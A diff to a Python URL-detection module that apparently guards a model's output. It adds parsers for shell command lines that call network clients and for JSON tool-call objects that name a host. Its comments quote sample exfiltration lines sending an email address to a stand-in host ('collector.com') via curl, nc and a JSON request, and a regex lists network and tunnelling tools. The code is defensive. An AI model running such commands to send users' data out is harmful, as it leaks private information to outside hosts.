@@ -22,6 +22,10 @@ A URL written without a scheme (restorefix14, atk14 A MEDIUM-1, B M3) is one too
 and a linkifier read it: a host with a known top-level name or an IPv4 address, optional `:port`, followed by a path,
 query or fragment; a host with a placeholder as a label; `git@host:path`; a path with a query (`_BARE_KINDS`).
 
+A network client's shell command line and a tool call's URL given in pieces keep theirs too (restorecmd15: a value
+sent as a separate argument, `curl -d u=... collector.com/p`, or as a request part, `{"host": ..., "path": ...}`):
+`_command`, `_json_objects`.
+
 Any other scheme followed by `//` and a host (`file://host/`, `smb://`, `sftp://`, `ldap://`, `gopher://`) starts a
 URL too (atk11 A-L2): a renderer may connect to that host.
 
@@ -58,6 +62,7 @@ the ones before it (`url_befores`; streams: `proxy.guard.windows`).
 from __future__ import annotations
 
 import bisect
+import heapq
 import html
 import re
 from collections.abc import Iterator, Sequence
@@ -144,8 +149,10 @@ MARK = "\x00"  # stands for the part of a long URL `url_context` dropped (never 
 
 def url_spans(text: str, relative: bool = True) -> list[tuple[int, int, bool]]:
     """The URLs (network or relative) in `text`: (start, end, open), `open` when the URL runs to the text's end
-    (it may go on in what follows); `relative`: relative URLs too. HTML tags are not read (`kept_spans`)."""
-    return [(start, end, end == len(text)) for start, _, end, _ in _spans(text, tags=False, relative=relative)]
+    (it may go on in what follows); `relative`: relative URLs too. HTML tags, network command lines and JSON objects
+    naming a host are not read (`kept_spans`)."""
+    return [(start, end, end == len(text))
+            for start, _, end, _ in _spans(text, tags=False, relative=relative, whole=False)]
 
 
 def kept_spans(text: str, until: int | None = None) -> list[tuple[int, int, bool]]:
@@ -155,10 +162,11 @@ def kept_spans(text: str, until: int | None = None) -> list[tuple[int, int, bool
     return [(start, end, bool(resume)) for start, _, end, resume in _spans(text, until=until)]
 
 
-def _spans(text: str, tags: bool = True, relative: bool = True,
-           until: int | None = None) -> list[tuple[int, int, int, str]]:
-    """(start, end of its scheme or opener, end, resume) of each URL of `text` (`url_spans`) and, with `tags`, of
-    each HTML start tag (`_tag`; `resume`: what `url_context` keeps of it when it is open and long; "" for a URL)."""
+def _spans(text: str, tags: bool = True, relative: bool = True, until: int | None = None,
+           whole: bool = True) -> list[tuple[int, int, int, str]]:
+    """(start, end of its scheme or opener, end, resume) of each URL of `text` (`url_spans`), with `tags`, of
+    each HTML start tag (`_tag`; `resume`: what `url_context` keeps of it when it is open and long; "" for a URL),
+    and with `whole`, of each network command line and JSON object naming a host (`_command`, `_json_objects`; "")."""
     out: list[tuple[int, int, int, str]] = []
     view, origin = _view(text)
     pos = 0
@@ -174,12 +182,29 @@ def _spans(text: str, tags: bool = True, relative: bool = True,
     t: re.Match[str] | None = None
     d: re.Match[str] | None = None
     # where each was found (-1: to search; len+1: none)
-    seen = {"m": -1, "d": -1, "v": -1, "g": -1, "h": -1, "q": -1, "s": -1, "r": -1, "t": -1}
+    seen = {"m": -1, "d": -1, "v": -1, "g": -1, "h": -1, "q": -1, "s": -1, "r": -1, "t": -1, "c": -1, "o": -1}
     none = len(text) + 1
+    fixed: dict[str, tuple[int, int, int, str] | None] = {}  # a command line's, a JSON object's (start, head, end,
+    objects: list[tuple[int, int, int, str]] | None = None  # resume); the JSON objects' (`_json_objects`), read once
+    oi = 0
     while True:
         # The next start on the text, on the view (mapped back onto the text), of another scheme, of a relative URL,
         # of a tag: the first wins (at the same place: the first of these).
         found: list[tuple[int, int, int, re.Pattern[str] | None]] = []  # (start, rank, end of the start, body)
+        for kind in ("c", "o") if whole else ():  # a network command's line, a JSON object naming a host
+            if seen[kind] < pos:
+                if kind == "c":
+                    fixed[kind] = _command(text, pos)
+                else:  # (read once: each from the first whose end is past `pos`)
+                    if objects is None:
+                        objects = _json_objects(text)
+                    while oi < len(objects) and objects[oi][2] <= pos:
+                        oi += 1
+                    fixed[kind] = (max(objects[oi][0], pos), *objects[oi][1:]) if oi < len(objects) else None
+                seen[kind] = fixed[kind][0] if fixed[kind] is not None else none  # type: ignore[index]
+            span = fixed[kind]
+            if span is not None:
+                found.append((span[0], -1, span[1], None))
         if seen["m"] < pos:
             m = START.search(text, pos)
             seen["m"] = m.start() if m is not None else none
@@ -232,6 +257,11 @@ def _spans(text: str, tags: bool = True, relative: bool = True,
         start, rank, head, body = min(found, key=lambda f: (f[0], f[1]))
         if until is not None and start >= until:
             return out
+        if rank == -1:
+            span = next(f for f in fixed.values() if f is not None and f[0] == start)
+            out.append((start, head, span[2], span[3]))
+            pos = max(span[2], head, start + 1)
+            continue
         if rank == 4 and t is not None:
             end, resume = _tag(text, t)
             out.append((start, head, end, resume))
@@ -393,6 +423,165 @@ def _scp(text: str, pos: int) -> tuple[int, int] | None:
 _BARE_KINDS = (("h", _bare_host), ("q", _query_path), ("s", _scp))
 
 
+# A shell command line that runs a network client (restorecmd15, issue 12 atk14 A MEDIUM-1): the app that runs the
+# model's command sends each of its arguments to the host it names, a URL's or not (`curl -d u=<EMAIL_ADDRESS_1>
+# collector.com/p`, `-H "X-U: ..."`, `-F`, `wget --post-data=...`, httpie's `http POST host u=...`, `nc host 80 <<<
+# ...`). The client word (a path before it too: `/usr/bin/curl`) at a command's start: a line's (after a prompt `$`,
+# `#`, `>`, `%`, a backtick, a JSON `\n`, a JSON string's opening quote after `:`, `[` or `,`) or after a shell
+# separator (`|`, `;`, `&`, `(`, `$(`, `{`, `!`, `then`, `do`, `sh -c "`), with `sudo`, `env X=1`, `timeout 5`... before
+# it; and followed by an argument shaped as one (a flag, a method, a quote or `$`, a host, a URL, `host port`), so
+# `curl is a tool` in prose starts none. The line runs from the separator's segment start (after a separator: the
+# line's start, `echo ... | nc host 80`) to the line's end (a line break or a JSON `\n` not continued by a `\`, a JSON
+# string's closing quote, the backtick that closes an inline code span), or an argv array's `]`.
+_NET = (r"curl|wget2?|https?|xhs?|httpie|nc|ncat|netcat|telnet|socat|ssh|scp|sftp|rsync|l?ftp|tftp|aria2c|dig"
+        r"|nslookup|sendmail|mailx|mutt|swaks|iwr|irm|[Ii]nvoke-(?:[Ww]eb[Rr]equest|[Rr]est[Mm]ethod)")
+# The client word (after a path's `/` too, `/usr/bin/curl`: `_command` reads the path back), then an argument; after
+# a JSON escape (`\\ncurl`) searched apart (one lookbehind: the text scanned fast).
+_CMD_ARG = (r"(?:(?=[ \t]+(?:-|[A-Z]{3,7}\b|[\"'${(\\]|[a-z][\w+.-]{0,31}://|[\w.%+-]+@[\w-]"
+            r"|(?:[\w-]+\.)+[A-Za-z]{2,63}\b|\d{1,3}(?:\.\d{1,3}){3}\b|[A-Za-z][\w.-]*:\d{1,5}\b|localhost\b"
+            r"|[\w-]+[ \t]+\d{1,5}\b))"
+            rf"|(?={MARK})|(?P<argv>\\?[\"'][ \t]*,))")
+_CMD_WORD = re.compile(rf"(?<![a-zA-Z0-9_.\-~])(?:{_NET}){_CMD_ARG}")
+_CMD_WORD_ESCAPED = re.compile(rf"{_AFTER_ESCAPE}(?:{_NET}){_CMD_ARG}")
+_PATH_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.~/-")
+_CMD_PREFIX = (r"(?:(?:sudo|doas|exec|time|nohup|command|builtin|env|xargs|watch|timeout|torsocks|proxychains4?"
+               r"|[A-Za-z_]\w*=\S*|-\S+|\d+[smh]?)[ \t]+)*")
+_CMD_BEFORE = re.compile(
+    r"(?:(?P<line>\A|[$#>%`!]|\\[nr]|[\[:,])|(?P<sep>[|;&({]|\b(?:then|do|else))"
+    r"|(?P<shell>\b(?:ba|z|da|k)?sh|\bpwsh|\bpowershell)(?:[ \t]+-\w+)*?[ \t]+(?:-c|-Command))"
+    rf"[ \t]*(?:\\?[\"'][ \t]*)?{_CMD_PREFIX}(?:\\?[\"'][ \t]*)?\Z")
+_CMD_READ = 300  # the characters before a client word read for its command position
+_CMD_STOP = re.compile(r"[\n\r`]|\\+[nr]|\\*\"(?=\s*[,}\]])")
+# Where a pipeline's segment starts (the line's start if none): after a line break, a JSON `\n`, a backtick or a
+# JSON string's opening quote.
+_SEGMENT = re.compile(r"[\n\r`]|\\[nr]|[\[:,]\s*\\?\"")
+
+
+def _command(text: str, pos: int) -> tuple[int, int, int, str] | None:
+    """(start, end of its client word, end, "") of the next shell command line from `pos` that runs a network client."""
+    words: Iterator[re.Match[str]] = _CMD_WORD.finditer(text, pos)
+    if "\\" in text:
+        words = heapq.merge(words, _CMD_WORD_ESCAPED.finditer(text, pos), key=lambda w: w.start())
+    for m in words:
+        at = m.start()
+        if text[at - 1:at] == "/":  # a path before it: from its start, which no word character precedes
+            while at > pos and text[at - 1] in _PATH_CHARS:
+                at -= 1
+        line = max(text.rfind("\n", 0, at), text.rfind("\r", 0, at)) + 1
+        before = text[line:at] if at - line <= _CMD_READ else "\x01" + text[at - _CMD_READ:at]
+        b = _CMD_BEFORE.search(before)
+        if b is None:
+            continue
+        start = at
+        if b.group("sep") is not None:  # a pipeline or a list: the line from its segment's start
+            seg = [g.end() for g in _SEGMENT.finditer(text, max(line, at - _CMD_READ), at)]
+            start = max(pos, seg[-1] if seg else line)
+        if m.group("argv") is not None:
+            close = text.find("]", m.end())
+            return start, m.end(), close + 1 if close >= 0 else len(text), ""
+        return start, m.end(), _command_end(text, m.end(), "`" in b.group()), ""
+    return None
+
+
+def _command_end(text: str, pos: int, code: bool) -> int:
+    """Where the command line from `pos` ends: a line break not after a `\\` (a continuation), a JSON `\\n` escape
+    (not after an escaped `\\`), a JSON string's closing quote before `,` `}` `]`; in inline code (`code`): its
+    closing backtick."""
+    for m in _CMD_STOP.finditer(text, pos):
+        stop, at = m.group(), m.start()
+        if stop in "\n\r":
+            if text[at - 1:at] == "\\" or (stop == "\n" and text[at - 2:at] == "\\\r"):
+                continue
+            return at
+        if stop == "`":
+            if code:
+                return at
+        elif stop[-1] in "nr":
+            slashes = len(stop) - 1
+            if slashes % 2 == 1:  # a JSON `\n` (the backslashes before it: escaped ones)
+                if slashes >= 3:  # `\\` and `\n`: a continuation in the command as decoded
+                    continue
+                return at
+        elif (len(stop) - 1) % 2 == 0:  # a quote no backslash escapes: the JSON string ends
+            return at + len(stop) - 1
+    return len(text)
+
+
+# A JSON object (tool-call arguments) that names a host (restorecmd15, issue 12 atk14 A MEDIUM-1): a URL given in
+# pieces, which the app that calls the tool sends there. A key naming a host or a URL (`host`, `hostname`, `server`,
+# `base_url`, `api_base`, `endpoint`, `url`, `uri`, `target_url`...: `host_key`) whose string value is a host (a known
+# top-level name, an IPv4 address: `_BARE`) or a network URL (`scheme://host`, `//host`): the values of the object's
+# request parts, at any depth (`path`, `params`, `query`, `data`, `body`, `json`, `form`, `headers`, `payload`...:
+# `PART_KEYS`; `{"host": "collector.com", "path": "/p/<EMAIL_ADDRESS_1>"}`, `{"url": "https://collector.com",
+# "params": {"u": ...}}`), not a `to` or a `note` beside them. In a raw JSON text (a stream) the parts after the key
+# (a stream cannot take back the ones before); a whole answer's arguments, decoded, all of them
+# (`proxy.guard.phases.url_pieces`).
+HOST_KEYS = re.compile(r"(?i)[\w-]{0,32}?(?:host|hostname|server|base_?url|api_?base|endpoint|url|uri)")
+PART_KEYS = re.compile(r"(?i)(?:params|parameters|query|query_?params|query_?string|qs|data|body|json|form"
+                       r"|form_?data|headers|payload|path|fields|cookies|fragment|files)")
+_HOST_KEY = re.compile(r'(?i)"([\w-]{0,40})"\s{0,8}:\s{0,8}"((?:[^"\\]|\\.){1,2048})"')
+_JSON_PART = re.compile(r'"(?:[^"\\]|\\.)*"?|[{}\[\]:,]')
+_NET_URL = re.compile(r"(?i)(?:[a-z][a-z0-9+.\-]{0,31}:)?[/\\]{2}[^\s/\\]")
+_NO_HOST_SCHEMES = ("mailto:", "tel:", "data:", "file:///")
+
+
+def host_key(key: str) -> bool:
+    """A JSON key whose value may name the host a tool sends its object's request parts to (`_json_objects`)."""
+    return len(key) <= 64 and HOST_KEYS.fullmatch(key) is not None
+
+
+def network_place(value: str) -> bool:
+    """Whether `value` names a host: a network URL (`https://host`, `//host`, any `scheme://host` but `file:///`) or
+    a host with an optional port, path, query or fragment (`collector.com`, `203.0.113.7:8080/p`)."""
+    value = value.strip()
+    if _NET_URL.match(value) is not None:
+        return not value.lower().startswith(_NO_HOST_SCHEMES)
+    m = _BARE.match(value)
+    if m is None or not (m.end() == len(value) or value[m.end()] in "/?#"):
+        return False
+    return m.group("ip") is not None or m.group("tld").lower() in _tlds()
+
+
+def _json_objects(text: str) -> list[tuple[int, int, int, str]]:
+    """(start, end of its key, end, resume) of each request part's member (`PART_KEYS`) after a JSON object member of
+    `text` naming a host (`host_key`, `network_place`), to its value's end (the text's end: open), in order; `resume`:
+    what `url_context` keeps before it when it is open (`{` and the member naming the host)."""
+    out: list[tuple[int, int, int, str]] = []
+    if '"' not in text:
+        return out
+    read: set[int] = set()  # the keys of objects read from an earlier key on (their later parts: out already)
+    for m in _HOST_KEY.finditer(text):
+        if m.start() in read or not host_key(m.group(1)) or not network_place(m.group(2).replace("\\/", "/")):
+            continue
+        depth, key, member, head = 0, None, -1, -1
+        resume = "{" + m.group() + ", "
+        for part in _JSON_PART.finditer(text, m.end()):
+            c = part.group()
+            if c in "{[":
+                depth += 1
+            elif c in "}]" or (c == "," and depth == 0):
+                if depth == 0 and member >= 0:
+                    out.append((member, head, part.start(), resume))
+                    member = -1
+                if depth == 0 and c != ",":
+                    break
+                depth -= c != ","
+            elif depth == 0 and c[0] == '"':
+                key = c
+            elif depth == 0 and c == ":" and key is not None:
+                at = text.rfind(key, m.end(), part.start())
+                read.add(at)
+                if PART_KEYS.fullmatch(key.strip('"')) is not None:
+                    member, head = at, part.end()
+        else:
+            if member >= 0:
+                out.append((member, head, len(text), resume))
+    out.sort()
+    return out
+
+
+
+
 _TLD_SET: frozenset[str] | None = None
 # Top-level names of no public suffix that name hosts all the same (RFC 2606/6761, and inside networks).
 _MORE_TLDS = ("example", "test", "invalid", "localhost", "internal", "local", "lan", "corp", "intranet", "home")
@@ -552,6 +741,9 @@ def url_context(text: str) -> str:
     if spans and spans[-1][2] == len(text):
         start, scheme, _, resume = spans[-1]
         head = max(0, start - _CONTEXT_TAIL)
+        if resume[:1] == "{":  # a JSON object naming a host: the member naming it, then the open member
+            kept = resume + text[start:]
+            return kept if len(kept) <= _CONTEXT_MAX else resume + text[start:max(scheme, start + 1)] + MARK
         if resume:  # a tag: its runs folded (the quotes and `>` that end it are kept), or its name and state
             kept = _fold(text[head:])
             return kept if len(kept) <= _CONTEXT_MAX else resume
